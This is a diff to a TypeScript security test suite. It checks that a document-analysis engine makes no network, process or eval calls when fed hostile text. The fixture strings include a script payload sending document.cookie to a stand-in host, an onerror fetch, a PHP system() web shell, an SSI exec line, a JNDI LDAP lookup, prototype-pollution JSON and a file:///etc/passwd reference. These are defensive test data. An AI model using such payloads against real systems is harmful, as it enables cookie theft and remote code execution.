@@ -17,7 +17,7 @@ export const HOSTILE = [
   `NEW YORK, Feb. 6, 2026 /PRNewswire/ -- Acme Corp today announced <script>fetch("https://${MARK}.invalid/steal?c="+document.cookie)</script> a product.`,
   `"It is the best ever," said Jane Doe, CEO. <img src=x onerror="fetch('http://${MARK}.invalid')"> {{constructor.constructor('return process')().exit(1)}} \${process.exit(1)}`,
   `According to https://${MARK}.invalid/report and file:///etc/passwd and file:///tmp/${MARK}/secret.txt, the market will reach $50 billion by 2030.`,
-  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") and new Function("return 1")() are common.`,
+  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") and new Function("return 1")() and Function("return 2")() are common.`,
   `Visit <https://${MARK}.invalid/a>, [our site](http://${MARK}.invalid/b), ![logo](ftp://${MARK}.invalid/c.png), javascript:alert(1), data:text/html;base64,PHNjcmlwdD4=`,
   `<!--#exec cmd="ls /" --> <?php system($_GET['c']); ?> %{(#_='multipart/form-data')} \${jndi:ldap://${MARK}.invalid/a}`,
   `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}} __proto__ polluted constructor prototype`,
@@ -64,7 +64,8 @@ export function installTraps(): { calls: string[]; restore: Restore } {
     for (const k of keys) patch(mod, k, `${name}.${k}`);
   }
   const g = globalThis as unknown as Record<string, unknown>;
-  for (const k of ["fetch", "WebSocket", "XMLHttpRequest", "eval"]) patch(g, k, `globalThis.${k}`);
+  // Function too: `Function("…")()` runs a string as `new Function` does. The engine never names it.
+  for (const k of ["fetch", "WebSocket", "XMLHttpRequest", "eval", "Function"]) patch(g, k, `globalThis.${k}`);
   return { calls, restore: () => undo.reverse().forEach((u) => u()) };
 }
 
@@ -77,7 +78,7 @@ describe("robustness: safety (no network, no links followed, nothing executed)",
     const requires = [...src.matchAll(/\brequire\(\s*["']([^"']+)["']\s*\)/g)].map((m) => m[1]);
     assert.deepEqual(requires, [], `engine.js requires ${requires.join(", ")}`);
     assert.doesNotMatch(src, /\bimport\s*\(/, "no dynamic import");
-    assert.doesNotMatch(src, /\bnew Function\s*\(|\beval\s*\(/, "no eval or Function constructor");
+    assert.doesNotMatch(src, /\bFunction\s*\(|\beval\s*\(/, "no eval or Function constructor, with new or without");
   });
 
   it("analysing hostile documents with every network, process and eval entry point trapped fires no trap", () => {
@@ -87,7 +88,8 @@ describe("robustness: safety (no network, no links followed, nothing executed)",
       // The traps are armed: a call through them is recorded (and refused).
       assert.throws(() => (req("child_process") as { execSync: (c: string) => void }).execSync("true"), /blocked/);
       assert.throws(() => (req("http") as { get: (u: string) => void }).get("http://example.invalid"), /blocked/);
-      assert.deepEqual(calls.splice(0), ["child_process.execSync", "http.get"]);
+      assert.throws(() => (globalThis as unknown as { Function: (code: string) => unknown }).Function("return 1"), /blocked/);
+      assert.deepEqual(calls.splice(0), ["child_process.execSync", "http.get", "globalThis.Function"]);
       delete req.cache[ENGINE];
       const engine = req(ENGINE) as typeof import("../../server/src/analysis/index");
       for (const text of [HOSTILE, HOSTILE.replace(/\n/g, "\r\n"), HOSTILE.repeat(20)]) {
